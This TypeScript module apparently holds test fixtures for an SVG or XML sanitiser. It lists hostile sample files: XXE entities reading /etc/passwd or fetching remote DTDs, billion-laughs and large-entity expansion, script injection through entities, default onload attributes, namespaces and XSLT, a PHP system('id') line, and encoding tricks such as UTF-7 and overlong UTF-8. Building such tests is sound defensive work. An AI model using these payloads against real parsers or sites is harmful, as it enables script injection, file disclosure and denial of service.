import type { Aims, Row } from './row';

const SVG = 'http://www.w3.org/2000/svg';
const FILE = `<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">`;

/** Document types: the entities that a file defines can combine to anything. */
export const DEFINITIONS: readonly Row[] = [
  [
    'of a script',
    ({ code }) => `<!DOCTYPE svg [<!ENTITY s "&#60;script>${code}&#60;/script>">]>${FILE}&s;</svg>`,
  ],
  [
    'of half a script',
    ({ code }) => `<!DOCTYPE svg [<!ENTITY s "scr">]>${FILE}<title>&s;ipt ${code}</title></svg>`,
  ],
  [
    'of an attribute’s value',
    ({ code }) => `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${code}">]>${FILE}</svg>`,
  ],
  [
    'of an attribute’s value that cannot be changed',
    ({ code }) =>
      `<!DOCTYPE svg [<!ATTLIST rect onload CDATA #FIXED "${code}">]>${FILE}<rect/></svg>`,
  ],
  [
    'of a namespace',
    ({ code }) =>
      `<!DOCTYPE svg [<!ATTLIST x:script xmlns:x CDATA "${SVG}">]>${FILE}<x:script>${code}</x:script></svg>`,
  ],
  [
    'of a namespace, by the name of a tool',
    ({ code }) =>
      `<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/1999/xhtml">]>${FILE}<x:script xmlns:x="&ns_svg;">${code}</x:script></svg>`,
  ],
  [
    'of a file on the disk',
    () =>
      `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>${FILE}<text y="9">&f;</text></svg>`,
  ],
  [
    'of a file elsewhere',
    ({ elsewhere }) =>
      `<!DOCTYPE svg [<!ENTITY f SYSTEM "${elsewhere}/f.txt">]>${FILE}<text y="9">&f;</text></svg>`,
  ],
  [
    'of more definitions elsewhere',
    ({ elsewhere }) => `<!DOCTYPE svg [<!ENTITY % d SYSTEM "${elsewhere}/d.dtd">%d;]>${FILE}</svg>`,
  ],
  [
    'that lie elsewhere',
    ({ elsewhere }) => `<!DOCTYPE svg SYSTEM "${elsewhere}/svg.dtd">${FILE}</svg>`,
  ],
  [
    'that lie elsewhere under the public name of SVG',
    ({ elsewhere }) =>
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${elsewhere}/svg11.dtd">${FILE}</svg>`,
  ],
  [
    'of XHTML, with its own entities',
    () =>
      `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">${FILE}<text>&nbsp;</text></svg>`,
  ],
  [
    'of ten billion words',
    () =>
      `<!DOCTYPE svg [<!ENTITY a "lol">${'bcdefghij'
        .split('')
        .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
        .join('')}]>${FILE}<text>&j;</text></svg>`,
  ],
  [
    'of a long word, again and again',
    () =>
      `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50_000)}">]>${FILE}<text>${'&a;'.repeat(50)}</text></svg>`,
  ],
  [
    'of a program for a kind of file',
    ({ elsewhere }) =>
      `<!DOCTYPE svg [<!NOTATION gif SYSTEM "${elsewhere}/viewer"><!ENTITY p SYSTEM "a.gif" NDATA gif>]>${FILE}</svg>`,
  ],
  ['in nothing at all', () => `<!DOCTYPE svg []>${FILE}</svg>`],
  ['of a page of HTML', () => `<!DOCTYPE html>${FILE}</svg>`],
  ['used, and nowhere made', () => `${FILE}<text>&nowhere;</text></svg>`],
];

/** Processing instructions, and files that are not XML but that some program may accept. */
export const INSTRUCTIONS: readonly Row[] = [
  [
    'to fetch a style sheet',
    ({ elsewhere }) => `<?xml-stylesheet href="${elsewhere}/a.css"?>${FILE}</svg>`,
  ],
  [
    'to fetch a style sheet of the site',
    () => `<?xml-stylesheet type="text/css" href="/a.css"?>${FILE}</svg>`,
  ],
  [
    'to be transformed',
    ({ elsewhere }) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${elsewhere}/a.xsl"?>${FILE}</svg>`,
  ],
  [
    'to be transformed by itself',
    ({ code }) =>
      `<?xml-stylesheet type="text/xsl" href="#t"?>${FILE}<x:stylesheet id="t" version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><h:script xmlns:h="http://www.w3.org/1999/xhtml">${code}</h:script></x:template></x:stylesheet></svg>`,
  ],
  [
    'to be transformed by an embedded file',
    () =>
      `<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${btoa('<a/>')}"?>${FILE}</svg>`,
  ],
  ['to a server', () => `${FILE}<?php system('id'); ?></svg>`],
  [
    'of another kind',
    () => `<?import namespace="t" implementation="#default#time2"?>${FILE}</svg>`,
  ],
  ['in capitals', () => `<?XML-STYLESHEET href="/a.css"?>${FILE}</svg>`],
  ['behind the end', () => `${FILE}</svg><?xml-stylesheet href="/a.css"?>`],
  ['a tag that never ends', ({ code }) => `${FILE}<script>${code}`],
  ['an element that never ends', ({ code }) => `${FILE}<g><script>${code}</script></svg>`],
  ['two roots', ({ code }) => `${FILE}</svg><script xmlns="${SVG}">${code}</script>`],
  [
    'an attribute twice',
    ({ code }) => `<svg xmlns="${SVG}" width="9" width="9" onload="${code}"/>`,
  ],
  [
    'an attribute twice under two prefixes',
    ({ code }) =>
      `<svg xmlns="${SVG}" xmlns:a="http://www.w3.org/1999/xlink" xmlns:b="http://www.w3.org/1999/xlink" width="9" height="9"><use a:href="#x" b:href="javascript:${code}"/></svg>`,
  ],
  [
    'an attribute without quotes',
    ({ code }) => `<svg xmlns=${SVG} width=9 height=9 onload=${code} />`,
  ],
  ['a comment that ends twice', ({ code }) => `${FILE}<!-- --!><script>${code}</script> --></svg>`],
  ['a prefix that means nothing', ({ code }) => `${FILE}<q:script>${code}</q:script></svg>`],
  [
    'the prefix xml for another namespace',
    () => `<svg xmlns="${SVG}" xmlns:xml="http://www.w3.org/1999/xhtml" width="9" height="9"/>`,
  ],
  ['words before its beginning', ({ code }) => `hello ${FILE}<script>${code}</script></svg>`],
  [
    'a page of HTML under the name of a picture',
    ({ code }) => `<!doctype html><svg onload=${code}>`,
  ],
];

const scripted = ({ code }: Aims, head = '') => `${head}${FILE}<script>${code}</script></svg>`;
const harmless = (head: string) => `${head}${FILE}</svg>`;

function utf16(text: string, { bigEndian = false, mark = true } = {}): Uint8Array {
  const units = mark ? `\ufeff${text}` : text;
  const bytes = new Uint8Array(units.length * 2);
  const view = new DataView(bytes.buffer);
  for (let at = 0; at < units.length; at += 1)
    view.setUint16(at * 2, units.charCodeAt(at), !bigEndian);
  return bytes;
}

const utf8 = (text: string) => new TextEncoder().encode(text);
const latin1 = (text: string) => Uint8Array.from(text, (one) => one.charCodeAt(0));

/** A text whose bytes different programs read differently. */
export const ENCODINGS: readonly (readonly [string, (aims: Aims) => Uint8Array])[] = [
  ['UTF-16 with its mark', (aims) => utf16(scripted(aims))],
  ['UTF-16, the greater byte first', (aims) => utf16(scripted(aims), { bigEndian: true })],
  ['UTF-16 without a mark', (aims) => utf16(scripted(aims), { mark: false })],
  [
    'UTF-7, declared',
    () => utf8(`<?xml version="1.0" encoding="UTF-7"?>${FILE}+ADw-script+AD4-</svg>`),
  ],
  ['one of Japan, declared', () => utf8(harmless('<?xml version="1.0" encoding="ISO-2022-JP"?>'))],
  [
    'one of Windows, declared',
    () =>
      latin1(`<?xml version="1.0" encoding="windows-1252"?>${FILE}<title>caf\u00e9</title></svg>`),
  ],
  ['UTF-16, declared over UTF-8', () => utf8(harmless('<?xml version="1.0" encoding="UTF-16"?>'))],
  [
    'UTF-8 with a letter in too many bytes',
    () => latin1(`${FILE}<title>\u00c0\u00bcscript></title></svg>`),
  ],
  ['one of Windows, not declared', () => latin1(`${FILE}<title>caf\u00e9</title></svg>`)],
  ['UTF-8 with a zero', (aims) => utf8(scripted(aims).replace('<script', '<\u0000script'))],
  ['XML 1.1', (aims) => utf8(scripted(aims, '<?xml version="1.1"?>'))],
  [
    'UTF-8 with a lone half of a letter',
    () => latin1(`${FILE}<title>\u00ed\u00a0\u0080</title></svg>`),
  ],
];
